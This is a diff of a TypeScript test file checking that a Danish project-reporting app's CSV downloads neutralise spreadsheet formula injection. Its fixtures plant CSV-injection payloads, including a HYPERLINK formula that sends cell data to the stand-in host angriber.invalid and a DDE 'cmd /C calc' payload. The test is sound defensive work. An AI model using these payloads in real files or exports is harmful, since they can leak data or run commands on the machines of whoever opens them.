@@ -4,12 +4,10 @@
  * Every CSV download now goes through the one writer, which neutralises such a cell with a
  * leading apostrophe; numbers (also negative ones) stay numbers.
  */
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { FastifyInstance } from 'fastify';
-import { buildServer } from '../src/http/server.ts';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { REPORT_KINDS } from '../src/reports/project-reports.ts';
-import { openTestDb, testDeps, type TestDb } from './helpers/db.ts';
 import { loginAs } from './helpers/http.ts';
+import { useTestServer } from './helpers/server.ts';
 
 /** The fields of a `;`-separated CSV text (quotes undone). */
 function fields(csv: string): string[] {
@@ -31,28 +29,20 @@ function fields(csv: string): string[] {
 const formula = (f: string) => /^[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(f);
 
 describe('CSV downloads and formulas', () => {
-  let t: TestDb;
-  let app: FastifyInstance;
+  const srv = useTestServer('pglite');
   const HYPERLINK = '=HYPERLINK("http://angriber.invalid/?d="&A1;"Klik")';
   beforeAll(async () => {
-    t = await openTestDb('pglite');
-    app = await buildServer(testDeps(t.db));
-    await app.ready();
-    const pid = (await t.db.query<{ id: number }>(`SELECT id FROM project WHERE key = 'aalborg'`)).rows[0].id;
-    await t.db.query(`UPDATE project_goal SET title = $2 WHERE id = (SELECT min(id) FROM project_goal WHERE project_id = $1)`, [pid, HYPERLINK]);
-    await t.db.query(`UPDATE project_milestone SET content = '@SUM(1+1)*cmd' WHERE id = (SELECT min(id) FROM project_milestone WHERE project_id = $1)`, [pid]);
-    await t.db.query(`INSERT INTO project_report_text (project_id, section, body) VALUES ($1, 'aktiviteter', '+1+cmd|'' /C calc''!A0')
+    const pid = (await srv.t.db.query<{ id: number }>(`SELECT id FROM project WHERE key = 'aalborg'`)).rows[0].id;
+    await srv.t.db.query(`UPDATE project_goal SET title = $2 WHERE id = (SELECT min(id) FROM project_goal WHERE project_id = $1)`, [pid, HYPERLINK]);
+    await srv.t.db.query(`UPDATE project_milestone SET content = '@SUM(1+1)*cmd' WHERE id = (SELECT min(id) FROM project_milestone WHERE project_id = $1)`, [pid]);
+    await srv.t.db.query(`INSERT INTO project_report_text (project_id, section, body) VALUES ($1, 'aktiviteter', '+1+cmd|'' /C calc''!A0')
       ON CONFLICT (project_id, section) DO UPDATE SET body = excluded.body`, [pid]);
-    await t.db.query(`UPDATE project_activity_type SET name = '-2+3+cmd' WHERE project_id = $1`, [pid]);
-  });
-  afterAll(async () => {
-    await app?.close();
-    await t?.cleanup();
+    await srv.t.db.query(`UPDATE project_activity_type SET name = '-2+3+cmd' WHERE project_id = $1`, [pid]);
   });
 
   it('neutralises every formula cell in every report CSV, and keeps negative numbers', async () => {
-    const s = await loginAs(app, 'projektleder.aalborg');
-    const pid = (await t.db.query<{ id: number }>(`SELECT id FROM project WHERE key = 'aalborg'`)).rows[0].id;
+    const s = await loginAs(srv.app, 'projektleder.aalborg');
+    const pid = (await srv.t.db.query<{ id: number }>(`SELECT id FROM project WHERE key = 'aalborg'`)).rows[0].id;
     const seen = new Set<string>();
     for (const kind of REPORT_KINDS) {
       const res = await s.get(`/styring/rapporter/${kind}.csv?projekt=${pid}`);
@@ -67,7 +57,7 @@ describe('CSV downloads and formulas', () => {
   });
 
   it('neutralises the national report and the microdata download too', async () => {
-    const s = await loginAs(app, 'analytiker.siri');
+    const s = await loginAs(srv.app, 'analytiker.siri');
     for (const url of ['/nationalt/rapport.csv', '/nationalt/mikrodata.csv']) {
       const res = await s.get(url);
       expect(res.statusCode, url).toBe(200);
